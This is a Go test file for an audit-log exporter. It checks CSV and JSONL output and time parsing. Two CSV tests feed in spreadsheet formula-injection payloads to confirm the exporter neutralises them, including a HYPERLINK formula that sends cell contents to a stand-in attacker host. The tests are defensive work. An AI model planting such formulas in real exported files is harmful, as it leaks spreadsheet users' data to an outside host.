package auditlog

import (
	"bufio"
	"bytes"
	"encoding/csv"
	"encoding/json"
	"strings"
	"testing"
	"time"

	"verifydesk/data"
)

var entries = []data.AuditEntry{
	{ID: "au_2", At: time.Date(2026, 12, 1, 14, 5, 0, 0, time.UTC), AgentID: "ag_ana", Role: "agent", Action: "reveal",
		AccountID: "acc_1014", Reason: "caller confirms, the number on file", Status: 200},
	{ID: "au_1", At: time.Date(2026, 12, 1, 14, 0, 0, 0, time.UTC), AgentID: "ag_ana", Role: "agent", Action: "resend_code",
		AccountID: "acc_1002", Detail: "=HYPERLINK(\"x\")", Status: 429, Outcome: data.AuditDenied},
}

func TestWriteCSV(t *testing.T) {
	var b bytes.Buffer
	if err := WriteCSV(&b, entries); err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	if len(recs) != 3 || strings.Join(recs[0], ",") != strings.Join(Columns, ",") {
		t.Fatalf("records %q", recs)
	}
	if recs[1][6] != "caller confirms, the number on file" || recs[1][9] != data.AuditOK || recs[1][1] != "2026-12-01T14:05:00Z" {
		t.Errorf("row 1 %q", recs[1])
	}
	if recs[2][7] != `'=HYPERLINK("x")` || recs[2][9] != data.AuditDenied {
		t.Errorf("a formula in a field must not reach a spreadsheet as one: %q", recs[2])
	}
}

// TestWriteCSVNeutralisesEveryCell: an agent who searches for a formula gets
// a 404 audited with the raw id; no column may carry it to a spreadsheet.
func TestWriteCSVNeutralisesEveryCell(t *testing.T) {
	f := `=HYPERLINK("http://evil.example/?"&A1,"y")`
	var b bytes.Buffer
	err := WriteCSV(&b, []data.AuditEntry{{ID: "@" + f, AgentID: "+" + f, Role: "-" + f, Action: " " + f, AccountID: f,
		Reason: "\t" + f, Detail: f, Outcome: f}})
	if err != nil {
		t.Fatal(err)
	}
	recs, err := csv.NewReader(&b).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, c := range recs[1] {
		if c != "" && strings.ContainsAny(c[:1], "=+-@ \t") {
			t.Errorf("column %s = %q reaches a spreadsheet as a formula", Columns[i], c)
		}
	}
}

func TestWriteJSONL(t *testing.T) {
	var b bytes.Buffer
	if err := WriteJSONL(&b, entries); err != nil {
		t.Fatal(err)
	}
	sc := bufio.NewScanner(&b)
	var got []data.AuditEntry
	for sc.Scan() {
		var e data.AuditEntry
		if err := json.Unmarshal(sc.Bytes(), &e); err != nil {
			t.Fatalf("line %q: %v", sc.Text(), err)
		}
		got = append(got, e)
	}
	if len(got) != 2 || got[0].ID != "au_2" || got[0].Outcome != data.AuditOK || !got[1].At.Equal(entries[1].At) {
		t.Errorf("round trip %+v", got)
	}
}

func TestParseTime(t *testing.T) {
	loc := time.FixedZone("agent", 3600)
	for _, c := range []struct {
		in   string
		end  bool
		want time.Time
	}{
		{"", false, time.Time{}},
		{"2026-12-01", false, time.Date(2026, 12, 1, 0, 0, 0, 0, loc)},
		{"2026-12-01", true, time.Date(2026, 12, 1, 23, 59, 59, 999999999, loc)},
		{" 2026-12-01 14:05 ", false, time.Date(2026, 12, 1, 14, 5, 0, 0, loc)},
		{"2026-12-01T14:05:30", false, time.Date(2026, 12, 1, 14, 5, 30, 0, loc)},
		{"2026-12-01T14:05:00Z", false, time.Date(2026, 12, 1, 14, 5, 0, 0, time.UTC)},
	} {
		got, err := ParseTime(c.in, loc, c.end)
		if err != nil || !got.Equal(c.want) {
			t.Errorf("ParseTime(%q, end=%v) = %v, %v; want %v", c.in, c.end, got, err, c.want)
		}
	}
	for _, bad := range []string{"yesterday", "2026-13-01", "14:05", "2026/12/01"} {
		if _, err := ParseTime(bad, loc, false); err != ErrBadTime {
			t.Errorf("ParseTime(%q): %v, want ErrBadTime", bad, err)
		}
	}
}

func FuzzParseTime(f *testing.F) {
	for _, s := range []string{"2026-12-01", "2026-12-01 14:05", "", "x", "2026-12-01T14:05:00+01:00"} {
		f.Add(s, true)
	}
	f.Fuzz(func(t *testing.T, s string, end bool) {
		got, err := ParseTime(s, time.UTC, end)
		if err != nil && !got.IsZero() {
			t.Fatalf("an error with a time: %v %v", got, err)
		}
	})
}
